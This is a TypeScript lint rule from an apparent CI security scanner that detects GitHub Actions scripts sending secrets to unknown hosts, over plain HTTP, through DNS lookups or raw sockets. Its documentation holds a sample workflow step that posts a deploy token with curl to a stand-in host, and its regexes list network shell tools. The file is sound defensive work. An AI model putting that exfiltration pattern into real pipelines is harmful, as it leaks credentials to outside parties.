import type { SecretScript } from '../../server/core/model/github/secret-script.ts';
import { isLocalAddress } from '../../server/core/parse/shell/query.ts';
import type { Command, Piece, Word } from '../../server/core/parse/shell.ts';
import { type Context, defineRule } from '../../server/core/rule.ts';
import { SERVICE_HOSTS } from '../data/service-hosts.ts';

export default defineRule({
  id: 'secret-sent-elsewhere',
  summary: 'A script sends a secret to an address that is not the one it belongs to',
  severity: 'medium',
  confidence: 'low',
  profile: 'strict',
  earliest: 'default',
  owasp: ['CICD-SEC-6'],
  cwe: [200, 319],
  since: '0.1.0',
  fix: 'none',
  equivalents: { 'pipeline-check': ['GHA-057'], sisakulint: ['secret-exfiltration'] },
  options: {
    'allowed-hosts': {
      type: 'string-list',
      default: [],
      description: 'Hosts that may be sent secrets; a name covers all hosts below it',
    },
  },
  docs: `
    ## What it does
    Reports \`curl\`, \`wget\`, \`Invoke-WebRequest\` and the like that put a secret (\`secrets.…\`, or a variable that \`env\` fills
    with one) into a header, a body or an address, where the host is written in the script and belongs to no service of a
    list in Pipewarden (\`github.com\`, \`slack.com\`, \`amazonaws.com\`, …) nor to \`allowed-hosts\`.

    In the \`default\` profile: secrets in names that are looked up (\`dig $TOKEN.example.com\`), piped into \`nc\`, \`telnet\` or
    \`socat\`, and sent over plain HTTP.

    ## Why is this bad?
    It is how stolen secrets leave: one more line in a long script. A host of your own belongs into \`allowed-hosts\`, where
    a reviewer sees it once.

    ## Example
    \`\`\`yaml bad .github/workflows/deploy.yml
    on: push
    permissions: {}
    jobs:
      deploy:
        runs-on: ubuntu-latest
        steps:
          - run: curl -d "token=\${TOKEN}" https://collect.example.net/in
            env:
              TOKEN: \${{ secrets.DEPLOY_TOKEN }}
    \`\`\`
    Use instead:
    \`\`\`yaml good .github/workflows/deploy.yml
    on: push
    permissions: {}
    jobs:
      deploy:
        runs-on: ubuntu-latest
        steps:
          - run: curl -d "key=\${TOKEN}" https://api.github.com/repos/octo-org/octo-repo/releases
            env:
              TOKEN: \${{ secrets.DEPLOY_TOKEN }}
    \`\`\`
  `,
  check: {
    'secret-script'(ctx, secrets) {
      if (!HINT.test(secrets.script.text)) return;
      for (const command of secrets.script.commands) {
        if (LOOKUPS.test(command.name)) checkLookup(ctx, secrets, command);
        else if (RAW.test(command.name)) checkRaw(ctx, secrets, command);
        else if (CLIENTS.test(command.name)) checkRequest(ctx, secrets, command);
      }
    },
  },
});

const HINT =
  /\b(?:curl|wget|https?|xh|iwr|irm|Invoke-(?:WebRequest|RestMethod)|nc|ncat|netcat|telnet|socat|dig|nslookup|host|ping)\b/i;
const LOOKUPS = /^(?:dig|nslookup|host|drill|ping)$/;
const RAW = /^(?:nc|ncat|netcat|telnet|socat)$/;
const CLIENTS = /^(?:curl|wget|https?|xh|iwr|irm|invoke-webrequest|invoke-restmethod)$/i;

function checkLookup(ctx: Context, secrets: SecretScript, { args }: Command): void {
  const piece = secretIn(secrets, args);
  if (!piece) return;
  ctx.report({
    span: secrets.script.spanOf(piece),
    message: 'DNS servers on the way can read this secret; never put one into a host name.',
    severity: 'high',
    confidence: 'high',
    profile: 'default',
  });
}

function checkRaw(ctx: Context, secrets: SecretScript, command: Command): void {
  const words = [
    ...command.args,
    ...command.redirects.flatMap(({ target, heredoc }) => heredoc?.body ?? target ?? []),
    ...command.pipedFrom.flatMap(({ args }) => args),
  ];
  const piece = secretIn(secrets, words);
  if (!piece || command.args.some(({ text }) => isLocalAddress(text))) return;
  ctx.report({
    span: secrets.script.spanOf(piece),
    message:
      'This sends a secret unencrypted, where anyone on the way can read it; use TLS and a known host.',
    severity: 'high',
    confidence: 'medium',
    profile: 'default',
  });
}

function checkRequest(ctx: Context, secrets: SecretScript, command: Command): void {
  const foreign = command.args.map((word) => foreignHost(word, ctx)).find((found) => found);
  if (!foreign) return;
  const piece = secretIn(secrets, [...command.args, ...piped(command)]);
  if (!piece) return;
  ctx.report({
    span: secrets.script.spanOf(piece),
    message: foreign.plain
      ? 'This sends a secret over plain HTTP, where anyone on the way reads it; use `https`.'
      : `This sends a secret to ${foreign.host}; make sure that it belongs there, and allow the host.`,
    ...(foreign.plain && { severity: 'high', confidence: 'medium', profile: 'default' }),
  });
}

/** What `curl -d @-` reads. */
function piped({ args, pipedFrom }: Command): readonly Word[] {
  return args.some(({ text }) => /@-$/.test(text)) ? pipedFrom.flatMap((source) => source.args) : [];
}

/** The host of an address that is no service's; undefined where it is, or where the script does not show it. */
function foreignHost(
  { text }: Word,
  ctx: Context,
): { readonly host: string; readonly plain: boolean } | undefined {
  const match = /^(?:--url=)?(https?):\/\/(?:[^/@\s]{0,200}@)?([a-z0-9.-]{1,253})(?=[/:?#]|$)/i.exec(text);
  if (!match || isLocalAddress(text)) return undefined;
  const host = match[2]!.toLowerCase();
  if (!host.includes('.') || /(?:^|\.)(?:internal|local|localdomain|svc|test)$/.test(host)) return undefined;
  const plain = match[1]!.toLowerCase() === 'http';
  const isBelow = (name: string) => host === name || host.endsWith(`.${name.replace(/^\*\./, '')}`);
  if (!plain && (SERVICE_HOSTS.some(isBelow) || ctx.option<readonly string[]>('allowed-hosts').some(isBelow)))
    return undefined;
  return { host, plain };
}

function secretIn(secrets: SecretScript, words: readonly Word[]): Piece | undefined {
  for (const { pieces } of words) {
    for (const piece of pieces) if (secrets.textOf(piece)) return piece;
  }
  return undefined;
}
